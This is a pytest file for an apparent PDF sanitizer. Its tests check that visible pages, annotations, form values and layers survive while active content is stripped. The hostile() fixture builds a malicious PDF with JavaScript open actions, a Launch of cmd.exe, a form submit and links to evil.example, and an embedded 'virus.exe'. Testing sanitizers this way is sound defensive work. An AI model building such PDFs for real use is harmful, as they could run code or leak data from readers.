"""What of a foreign PDF reaches a packet: everything that is seen, and nothing that acts."""

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from enclave_desktop.packet.attached.reading import inspect
from tests.unit.packet.attached.files import pdf_bytes, quartered_pdf, words_pdf
from tests.unit.packet.attached.paper import attached, joined, nearest, shown, text_on

SQUARE = b"0 0 1 rg 0 0 50 50 re f"
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def everything_in(path) -> bytes:
    """The file with all streams decoded and nothing packed."""
    with pikepdf.open(path) as pdf:
        return pdf_bytes(
            pdf,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
        )


def appearance(pdf: pikepdf.Pdf, drawing: bytes = SQUARE) -> Dictionary:
    return Dictionary(
        N=pdf.make_stream(drawing, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 50, 50]))
    )


def annotated(**entries) -> pikepdf.Pdf:
    """A page with one annotation whose square of blue stands at (300, 300)."""
    pdf = quartered_pdf()
    entries = {"AP": appearance(pdf), "Subtype": Name.Stamp, **entries}
    note = Dictionary(Type=Name.Annot, Rect=Array([300, 600, 350, 650]), F=4, **entries)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
    return pdf


def blue_is_seen(path) -> bool:
    """Where the annotation stands: over what is green beneath it."""
    return nearest(shown(path).getpixel((325, round(841.89) - 625))) == "B"


def with_form(pdf: pikepdf.Pdf, **entries) -> pikepdf.Pdf:
    fields = Array(list(pdf.pages[0].obj.Annots))
    pdf.Root.AcroForm = Dictionary(Fields=fields, **entries)
    return pdf


def hostile() -> pikepdf.Pdf:
    """Everything at once that a page can be made to do."""
    pdf = with_form(annotated(A=SCRIPT, AA=Dictionary(E=SCRIPT)), XFA=String("<xdp/>"))
    embedded = pdf.make_stream(b"MZ-payload", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("virus.exe"), EF=Dictionary(F=embedded))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    submit = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
    pdf.Root.OpenAction = SCRIPT
    pdf.Root.AA = Dictionary(WC=launch)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), SCRIPT])),
        EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])),
    )
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=submit)
    page.AF = Array([spec])
    page.PieceInfo = Dictionary(Secret=Dictionary(Private=String("private")))
    for kind in ("/RichMedia", "/3D", "/Screen", "/FileAttachment", "/Movie", "/Link"):
        page.Annots.append(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name(kind),
                Rect=Array([0, 0, 50, 50]),
                FS=spec,
                A=Dictionary(S=Name.URI, URI=String("http://evil.example/")),
                RichMediaContent=spec,
            )
        )
    form = pdf.make_stream(
        SQUARE,
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 9, 9]),
        Metadata=pdf.make_stream(b"metadata-of-somebody", Type=Name.Metadata),
        Ref=Dictionary(F=spec, Page=0),
        OPI=Dictionary({"/2.0": Dictionary(F=spec)}),
    )
    wide = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    wide.Metadata = pdf.make_stream(b"metadata-of-another", Type=Name.Metadata)
    external = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, F=String("//server/share"))
    program = pdf.make_stream(b"systemdict /quit", Type=Name.XObject, Subtype=Name.PS)
    page.Resources.XObject = Dictionary(Fm=form, W=wide, Ex=external, Ps=program)
    page.Resources.Properties = Dictionary(P0=Dictionary(A=SCRIPT, Filespec=spec))
    return pdf


def test_that_nothing_that_acts_reaches_the_packet(tmp_path):
    found = everything_in(joined(tmp_path, attached(pdf_bytes(hostile()))))
    words = (
        "JavaScript alert /JS /Launch cmd.exe /SubmitForm /URI evil.example /OpenAction /AA /AcroForm /XFA"
        " /EmbeddedFile Filespec virus.exe MZ-payload /RichMedia /3D /Screen /Movie /Annot /PieceInfo private"
        " metadata-of-somebody metadata-of-another /OPI /Ref //server systemdict"
    )
    assert [word for word in words.split() if word.encode() in found] == []


def test_that_the_stamp_of_a_hostile_file_is_still_seen(tmp_path):
    assert blue_is_seen(joined(tmp_path, attached(pdf_bytes(hostile()))))


@pytest.mark.parametrize("kind", ["Stamp", "FreeText", "Ink", "Highlight", "Square"])
def test_that_an_annotation_that_was_seen_is_seen(tmp_path, kind):
    assert blue_is_seen(joined(tmp_path, attached(pdf_bytes(annotated(Subtype=Name(f"/{kind}"))))))


@pytest.mark.parametrize("flags", [2, 32], ids=["hidden", "not viewed"])
def test_that_an_annotation_that_was_not_seen_is_not_seen(tmp_path, flags):
    pdf = annotated()
    pdf.pages[0].obj.Annots[0].F = flags
    assert not blue_is_seen(joined(tmp_path, attached(pdf_bytes(pdf))))


@pytest.mark.parametrize("kind", ["Link", "Popup", "FileAttachment"])
def test_that_what_is_no_matter_of_paper_is_left_out(tmp_path, kind):
    assert not blue_is_seen(joined(tmp_path, attached(pdf_bytes(annotated(Subtype=Name(f"/{kind}"))))))


def field(**entries) -> pikepdf.Pdf:
    return annotated(Subtype=Name.Widget, FT=Name.Tx, T=String("name"), **entries)


@pytest.mark.parametrize("needs", [True, False])
def test_that_what_a_form_field_shows_is_kept(tmp_path, needs):
    pdf = with_form(field(V=String("王")), NeedAppearances=needs)
    assert blue_is_seen(joined(tmp_path, attached(pdf_bytes(pdf))))


def test_that_a_field_without_appearance_shows_its_latin_value(tmp_path):
    pdf = with_form(field(V=String("ABC"), DA=String("/Helv 12 Tf 0 g")), NeedAppearances=True)
    del pdf.pages[0].obj.Annots[0].AP
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.Root.AcroForm.DR = Dictionary(Font=Dictionary(Helv=font))
    assert "ABC" in text_on(joined(tmp_path, attached(pdf_bytes(pdf))))


def test_that_a_field_whose_value_cannot_be_shown_is_told():
    pdf = with_form(field(V=String("王小明")), NeedAppearances=True)
    del pdf.pages[0].obj.Annots[0].AP
    assert "没有自带外观" in inspect(pdf_bytes(pdf)).warnings[0]


def test_that_a_dynamic_form_beside_static_pages_is_told():
    pdf = with_form(field(), XFA=String("<xdp/>"))
    assert "XFA" in inspect(pdf_bytes(pdf)).warnings[0]


def layered(*, off: bool) -> pikepdf.Pdf:
    """A blue square in a layer."""
    pdf = quartered_pdf(content=b"/OC /L0 BDC q 1 0 0 1 300 600 cm " + SQUARE + b" Q EMC")
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("layer")))
    pdf.pages[0].obj.Resources.Properties = Dictionary(L0=layer)
    default = Dictionary(OFF=Array([layer])) if off else Dictionary()
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=default)
    return pdf


@pytest.mark.parametrize("off", [True, False])
def test_that_a_hidden_layer_stays_hidden_and_a_shown_one_shown(tmp_path, off):
    assert blue_is_seen(joined(tmp_path, attached(pdf_bytes(layered(off=off))))) is not off


def test_that_layers_hidden_by_default_stay_hidden(tmp_path):
    pdf = layered(off=False)
    pdf.Root.OCProperties.D = Dictionary(BaseState=Name.OFF)
    assert not blue_is_seen(joined(tmp_path, attached(pdf_bytes(pdf))))


def test_that_resources_named_like_actions_are_kept(tmp_path):
    pdf = words_pdf("kept")
    fonts = pdf.pages[0].obj.Resources.Font
    for name in ("S", "Type", "A", "AA", "F", "JS"):
        fonts[f"/{name}"] = fonts.F1
    pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /S 20 Tf 100 700 Td (kept) Tj /A 20 Tf (too) Tj ET")
    assert "kepttoo" in text_on(joined(tmp_path, attached(pdf_bytes(pdf))))
